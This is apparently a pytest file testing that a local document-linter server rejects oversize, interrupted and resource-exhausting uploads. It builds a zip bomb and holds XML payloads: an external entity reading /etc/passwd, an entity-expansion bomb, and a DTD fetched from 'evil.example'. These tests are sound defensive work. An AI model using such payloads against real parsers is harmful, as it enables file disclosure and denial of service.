"""What is sent and what it may cost (ecosystem.md 3.2, items 4 and 5)."""

import http.client
import random
import socket
import zipfile
from io import BytesIO

import pytest

from linter.reading.limits import FILE_BYTES
from linter.workbench.clerk import Brief, Clerk, Gone
from linter.workbench.papers import Papers
from tests.workbench.conftest import OTHER, REPORT
from tests.workbench.test_server import REASON, prints

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def package(document: bytes) -> bytes:
    """A .docx whose main part is `document`."""
    with zipfile.ZipFile(BytesIO(REPORT.read_bytes())) as source:
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for name in source.namelist():
                target.writestr(name, document if name == "word/document.xml" else source.read(name))
    return out.getvalue()


@pytest.fixture(scope="module")
def glutton() -> bytes:
    """A .docx within every limit of size that takes a gigabyte to read: millions of elements that do not compress much."""
    chance = random.Random(5)
    parts = "".join(f'<w:p w:rsidR="{chance.getrandbits(32):08X}"><w:r><w:t/></w:r></w:p>' for _ in range(1_500_000))
    data = package(f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{parts}</w:body></w:document>'.encode())
    assert len(data) < FILE_BYTES
    return data


def test_4_a_body_that_is_announced_too_long_is_refused_before_it_is_read(desk):
    link = http.client.HTTPConnection("127.0.0.1", desk.server.port, timeout=60)
    link.putrequest("PUT", "/report")
    for name, value in {
        "Origin": f"http://127.0.0.1:{desk.server.port}", "Sec-Fetch-Site": "same-origin", "X-Token": desk.browser.token,
        "Cookie": "; ".join(f"{k}={v}" for k, v in desk.browser.jar.items()), "Content-Length": str(FILE_BYTES + 1), "X-Filename": "a.docx",
    }.items():  # fmt: skip
        link.putheader(name, value)
    link.endheaders()
    answer = link.getresponse()
    assert answer.status == 413 and "50 MB" in answer.read().decode()
    link.close()
    assert desk.server.session.papers.report is None


def test_4_a_body_without_a_length_is_refused_when_it_is_too_long(desk):
    link = http.client.HTTPConnection("127.0.0.1", desk.server.port, timeout=60)
    headers = {
        "Origin": f"http://127.0.0.1:{desk.server.port}", "Sec-Fetch-Site": "same-origin", "X-Token": desk.browser.token,
        "Cookie": "; ".join(f"{k}={v}" for k, v in desk.browser.jar.items()), "Transfer-Encoding": "chunked",
    }  # fmt: skip
    try:
        link.request("POST", "/choices", iter([b"x" * 10_000] * 40), headers, encode_chunked=True)
        assert link.getresponse().status == 413
    except (ConnectionError, http.client.HTTPException):
        pass  # closed while it was still being sent
    link.close()
    assert desk.server.session.papers == Papers()
    assert desk.browser.get("/").status == 200


def test_4_a_form_is_not_taken_for_a_file(desk):
    body = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.md"\r\n\r\ntext\r\n--x--\r\n'
    answer = desk.browser.ask("POST", "/choices", body, {"Content-Type": "multipart/form-data; boundary=x"})
    assert answer.status == 200 and desk.server.session.papers.report is None


def test_4_an_upload_that_breaks_off_costs_nothing(desk):
    desk.browser.open(OTHER)
    before = desk.server.session.papers
    with socket.create_connection(("127.0.0.1", desk.server.port)) as link:
        cookie = "; ".join(f"{k}={v}" for k, v in desk.browser.jar.items())
        link.sendall(
            f"PUT /report HTTP/1.1\r\nHost: 127.0.0.1:{desk.server.port}\r\nOrigin: http://127.0.0.1:{desk.server.port}\r\nX-Token: {desk.browser.token}\r\n"
            f"Cookie: {cookie}\r\nX-Filename: a.md\r\nContent-Length: 1000\r\n\r\nhalf".encode()
        )
    assert desk.browser.get("/board").status == 200
    assert desk.server.session.papers == before


def test_5_a_zip_bomb_is_refused_before_it_is_unpacked(browser):
    bomb = package(b"<a>" + b"0" * 150_000_000)
    answer = browser.put("/report", "青岚县.docx", bomb)
    assert answer.status == 200 and "压缩比异常" in answer.text
    assert prints(browser.open(OTHER).text)


@pytest.mark.parametrize(
    "head", ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a [<!ENTITY b "cccc"><!ENTITY d "&b;&b;&b;">]>', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">']
)
def test_5_entities_are_refused(browser, head):
    document = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>一</w:t></w:r></w:p></w:body></w:document>'.encode()
    answer = browser.put("/report", "青岚县.docx", package(document))
    assert answer.status == 200 and "root:" not in answer.text and not prints(answer.text)


def test_5_a_file_that_eats_memory_ends_in_one_sentence_and_the_desk_goes_on(opened, rulebook, glutton):
    desk = opened(own=Brief(rulebook, memory=600_000_000, seconds=120))
    answer = desk.browser.put("/report", "青岚县.docx", glutton)
    assert answer.status == 200 and "内存" in answer.text and not prints(answer.text)
    assert prints(desk.browser.open(OTHER).text)


def test_5_a_file_that_takes_too_long_is_given_up_and_kept_with_its_waivers(opened, rulebook, glutton):
    desk = opened(own=Brief(rulebook, seconds=2))
    first = prints(desk.browser.open(REPORT).text)[0]
    desk.browser.post("/waivers", fingerprint=first, reason=REASON)
    answer = desk.browser.put("/report", REPORT.name, glutton)
    assert answer.status == 200 and "检查超过 2 秒" in answer.text and not prints(answer.text)
    papers = desk.server.session.papers
    assert papers.report == (REPORT.name, glutton) and papers.waivers == {first: REASON}
    assert "检查超过 2 秒" in desk.browser.get("/board").text  # not tried again by itself
    assert REASON in desk.browser.open(REPORT).text


def test_5_a_process_that_is_gone_is_replaced(desk):
    desk.browser.open(REPORT)
    desk.server.session._clerk._process.kill()
    assert prints(desk.browser.get("/board").text) or prints(desk.browser.get("/board").text)


def test_5_the_limits_hold_in_the_process_that_reads(rulebook):
    resource = pytest.importorskip("resource")
    clerk = Clerk(Brief(rulebook, memory=777_000_000))
    try:
        clerk.wait()
        assert resource.prlimit(clerk._process.pid, resource.RLIMIT_AS)[0] == 777_000_000
    finally:
        clerk.end()


def test_5_where_no_process_will_start_it_is_told(rulebook):
    clerk = Clerk(Brief(rulebook, memory=1_000_000))
    with pytest.raises(Gone):
        clerk.wait()
